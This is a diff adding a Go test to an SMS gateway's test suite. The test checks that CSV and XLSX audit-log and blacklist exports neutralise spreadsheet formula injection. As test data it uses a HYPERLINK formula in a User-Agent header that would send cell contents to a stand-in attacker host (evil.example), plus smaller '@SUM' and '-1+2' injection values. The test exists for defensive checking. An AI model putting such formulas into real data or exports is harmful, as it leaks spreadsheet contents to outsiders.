@@ -7,10 +7,13 @@ import (
 	"fmt"
 	"io"
 	"mime/multipart"
+	"net/http"
 	"runtime"
 	"strings"
 	"sync"
 	"testing"
+
+	"github.com/xuri/excelize/v2"
 
 	"smsgw/app"
 )
@@ -182,5 +185,51 @@ func TestBlacklistImportRefusesZipBomb(t *testing.T) {
 	}
 	if peak > 200<<20 {
 		t.Errorf("heap in use reached %d MB", peak>>20)
+	}
+}
+
+// Text a caller controls, even without an account, is exported as text:
+// a CSV cell that a spreadsheet would run as a formula gets a leading
+// quote, and an XLSX cell is a string, never a formula. Numbers are
+// exported normalised, without a +, so they stay as they are.
+func TestExportEscapesFormulas(t *testing.T) {
+	f := newFixture(t)
+	admin := f.mustAdmin(t)
+	const ua = `=HYPERLINK("http://evil.example/?x="&A1,"点击")`
+	req, _ := http.NewRequest("POST", f.srv.URL+"/api/v1/departments", strings.NewReader(`{"name":"导出注入处"}`))
+	req.Header.Set("Authorization", "Bearer "+admin)
+	req.Header.Set("User-Agent", ua)
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+
+	status, body := f.call(t, "GET", "/api/v1/audit/export?format=csv&action=POST", admin, "")
+	if status != 200 || !strings.Contains(body, `"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`) {
+		t.Errorf("csv export of a formula User-Agent: %d %q", status, body)
+	}
+	status, body = f.call(t, "GET", "/api/v1/audit/export?format=xlsx&action=POST", admin, "")
+	x, err := excelize.OpenReader(strings.NewReader(body))
+	if status != 200 || err != nil {
+		t.Fatalf("xlsx: %d %v", status, err)
+	}
+	rows, _ := x.GetRows("Sheet1")
+	if len(rows) < 2 || rows[1][12] != ua {
+		t.Fatalf("xlsx rows %q", rows)
+	}
+	if formula, _ := x.GetCellFormula("Sheet1", "M2"); formula != "" {
+		t.Errorf("the User-Agent became the formula %q", formula)
+	}
+
+	code, body := f.call(t, "POST", "/api/v1/blacklist", admin, `{"entries":[{"phone":"+86 139 0013 9000","reason":"@SUM(1+1)"},{"phone":"13800138000","reason":"-1+2"}]}`)
+	if code >= 300 {
+		t.Fatalf("add to the blacklist: %d %s", code, body)
+	}
+	_, body = f.call(t, "GET", "/api/v1/blacklist/export?format=csv", admin, "")
+	for _, want := range []string{"13900139000,0,'@SUM(1+1)", "13800138000,0,'-1+2"} {
+		if !strings.Contains(body, want) {
+			t.Errorf("blacklist csv lacks %q: %q", want, body)
+		}
 	}
 }
